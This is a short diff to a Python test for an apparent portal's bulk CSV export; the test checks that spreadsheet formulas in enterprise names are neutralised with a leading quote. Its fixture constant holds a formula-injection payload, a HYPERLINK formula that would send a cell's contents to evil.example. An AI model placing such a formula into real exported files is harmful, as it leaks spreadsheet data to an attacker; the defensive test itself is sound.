@@ -7,6 +7,7 @@ import io
 
 from portal.auth.models import Role
 from portal.disclosures.services import ensure_annual_obligation
+from portal.core.storage import FileStore
 from portal.opendata.bulk import write_file
 from tests.conftest import login_as
 from tests.factories import make_enterprise, make_user
@@ -17,7 +18,7 @@ EVIL = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
 def test_bulk_enterprise_file_neutralises_formulas(db, tmp_path):
     ent = make_enterprise(EVIL)
     db.session.commit()
-    write_file("enterprises", tmp_path)
+    write_file("enterprises", FileStore(tmp_path))
     text = next(tmp_path.glob("*.csv")).read_text(encoding="utf-8-sig")
     cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
     assert "'" + EVIL in cells and EVIL not in cells
